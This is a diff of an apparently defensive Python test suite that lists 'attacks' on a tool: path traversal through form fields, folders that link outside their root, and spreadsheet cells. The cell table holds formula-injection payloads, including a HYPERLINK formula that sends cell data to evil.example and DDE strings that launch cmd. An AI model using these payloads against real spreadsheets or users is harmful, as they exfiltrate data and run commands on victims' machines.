@@ -112,7 +112,8 @@ NEEDED: Final[Mapping[str, dict[str, Any]]] = {
     "backfill": {"bundle": "bundle", "inbox": "inbox/{night}", "start": "2026-11-22", "end": "2026-11-23"},
     "score": {"bundle": "bundle", "inbox": "inbox"},
     "quarantine": {},
-} | dict.fromkeys(("verify", "reseal", "evaluate"), {"bundle": "bundle"})
+    **{name: {"bundle": "bundle"} for name in ("verify", "reseal", "evaluate")},
+}
 FORMS: Final[Mapping[str, tuple[str, dict[str, Any], str]]] = {
     "photos of somebody else to train on": ("train", {"folder": "{outside}/photos"}, "folder"),
     "bundles sealed in a folder of somebody else": ("train", {"models": "{outside}"}, "models"),
@@ -250,7 +251,10 @@ def _job_variables(brought: dict[str, Any], at: Workshop) -> str:
 
 
 FORM_ATTACKS: Final = [
-    *(Attack("form", does, "WrongUse", partial(_in_the_form, *typed)) for does, typed in FORMS.items()),
+    *(
+        Attack("form", does, f"WrongUse: {typed[2]} of {typed[0]}", partial(_in_the_form, *typed))
+        for does, typed in FORMS.items()
+    ),
     Attack("form", "a prediction that is a file elsewhere", "WrongUse", _prediction_of_a_file),
     Attack("form", "a night whose folder is a link out", "WrongUse", _night_behind_a_link),
     Attack("form", "a photo of the folder that is a link out", "WrongUse", _photo_behind_a_link),
@@ -428,7 +432,7 @@ SHOWN_ATTACKS: Final = [
 # -- tables for people
 
 CELLS: Final = {
-    "a formula": "=HYPERLINK(\"http://evil.example?\"&A1,\"x\").jpg",
+    "a formula": '=HYPERLINK("http://evil.example?"&A1,"x").jpg',
     "a command": "=cmd|' /C calc'!A0",
     "a sum": "+1+1",
     "a difference": "-2+3+cmd|' /C calc'!A0",
